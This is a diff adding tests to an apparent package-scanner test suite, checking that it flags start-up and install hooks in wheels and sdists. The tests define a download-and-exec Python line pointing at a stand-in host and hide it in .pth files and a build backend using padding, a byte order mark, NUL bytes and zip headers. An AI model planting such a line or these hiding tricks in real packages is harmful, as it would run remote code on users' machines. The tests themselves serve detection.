@@ -146,6 +146,44 @@ def test_a_defect_met_by_one_archive_is_a_gap_of_that_archive(
     assert look_inside(path, pool, tmp_path / "kept").gaps == ()  # what broke off was not kept as an answer
 
 
+START = b"import os, urllib.request; exec(urllib.request.urlopen('https://c.example/x').read())"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        START + b"\n",
+        b"# a\r" + START + b"\r",  # text with universal newlines
+        b"\xef\xbb\xbf" + START,  # a byte order mark, which Python drops from 3.13 on
+        b"a\x0c" + START + "\u2028b".encode(),  # ends of lines to str.splitlines, as 3.13 reads it
+        b"# \0\n" + START,  # a NUL makes no weights of it
+        b"PK\x03\x04\n" + START + b"\n\x80\xff",  # nor do a zip's first letters, or what is no text behind it
+        b"#" + b"x" * (9 << 20) + b"\n" + START,
+    ],
+    ids=["plain", "carriage return", "byte order mark", "form feed", "NUL", "letters of a zip", "after 9 MB"],
+)
+def test_a_start_line_is_seen_however_the_file_hides_it(data: bytes, tmp_path: Path, pool: Pool) -> None:
+    facts = look_inside(put(tmp_path, "a.whl", wheel({"demo.pth": data})), pool)
+    assert {(fact.behaviour, fact.moment) for fact in facts.code} >= {
+        ("start-hook", Moment.START),
+        ("runs-downloaded", Moment.START),
+    }
+
+
+def test_weights_under_the_same_suffix_are_no_start_file(tmp_path: Path, pool: Pool) -> None:
+    weights = zipped([("archive/data.pkl", b"\x80\x02]q\x00."), ("archive/code.py", b"import os\n")])
+    facts = look_inside(put(tmp_path, "a.whl", wheel({"demo/weights.pth": weights})), pool)
+    assert not [fact for fact in facts.code if fact.behaviour == "start-hook"]
+
+
+@pytest.mark.parametrize("before", [b"", b"# " + b"x" * (1 << 20) + b"\n"], ids=["at once", "behind a long comment"])
+def test_what_builds_an_sdist_runs_when_it_is_installed(before: bytes, tmp_path: Path, pool: Pool) -> None:
+    pyproject = before + b'[build-system]\nrequires = []\nbuild-backend = "back"\nbackend-path = ["."]\n'
+    files = {"demo-1.0/pyproject.toml": pyproject, "demo-1.0/PKG-INFO": METADATA, "demo-1.0/back.py": START}
+    facts = look_inside(put(tmp_path, "demo-1.0.tar.gz", tarred(list(files.items()))), pool)
+    assert ("runs-downloaded", Moment.INSTALL) in {(fact.behaviour, fact.moment) for fact in facts.code}
+
+
 def test_programs_out_of_place_and_under_other_names_are_facts(tmp_path: Path, pool: Pool) -> None:
     elf = b"\x7fELF" + bytes(60)
     names = ["demo/run/tool", "demo/logo.png", "demo/_native.cpython-311-x86_64-linux-gnu.so", "demo/bin/tool"]
